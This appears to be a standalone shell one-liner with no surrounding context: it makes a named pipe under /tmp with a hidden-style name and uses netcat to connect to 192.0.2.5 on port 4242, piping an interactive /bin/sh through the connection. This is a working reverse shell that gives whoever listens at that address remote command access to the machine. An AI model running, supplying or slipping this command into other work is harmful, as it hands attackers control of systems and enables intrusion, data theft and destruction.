f=/tmp/.x;rm -f $f;mkfifo $f;nc 192.0.2.5 4242 <$f | /bin/sh -i >$f 2>&1
